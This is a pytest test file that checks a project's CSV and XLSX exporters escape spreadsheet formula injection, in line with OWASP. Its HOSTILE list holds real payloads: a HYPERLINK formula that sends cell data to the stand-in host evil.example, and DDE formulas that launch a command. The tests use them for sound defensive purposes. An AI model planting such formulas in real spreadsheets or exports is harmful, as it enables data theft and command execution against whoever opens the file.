"""Issue 13 item 11: CSV and XLSX exports never carry a live formula from data (OWASP)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from coder.export.formats import grid_csv, grid_xlsx
from coder.export.tables import Column, Grid

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _grid() -> Grid:
    rows = tuple((text, "-3", str(i)) for i, text in enumerate(HOSTILE))
    return Grid(
        caption='=HYPERLINK("x")',
        columns=(Column("name", "=Name"), Column("n", "N", numeric=True), Column("i", "I", True)),
        rows=rows,
        note="@note",
    )


def test_csv_cells_are_escaped() -> None:
    text = grid_csv(_grid()).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    assert table[0][0] == "'=Name"
    for row, original in zip(table[1:], HOSTILE, strict=True):
        assert row[0] == "'" + original
        assert row[1] == "-3"  # a negative number in a numeric column stays a number


@pytest.mark.parametrize("text", ["plain", "it's", "3 - 1", "a=b"])
def test_harmless_text_is_left_alone(text: str) -> None:
    grid = Grid(caption="c", columns=(Column("a", "A"),), rows=((text,),))
    assert list(csv.reader(io.StringIO(grid_csv(grid).decode("utf-8-sig"))))[1] == [text]


def test_xlsx_never_writes_a_formula() -> None:
    data = grid_xlsx(_grid())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    texts = [ws.cell(row=r, column=1).value for r in range(3, 3 + len(HOSTILE))]
    assert texts == HOSTILE
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(1, 3 + len(HOSTILE)))
    assert ws.cell(row=1, column=1).value == '=HYPERLINK("x")'
    assert ws.cell(row=3, column=2).value == -3 and ws.cell(row=3, column=2).data_type == "n"
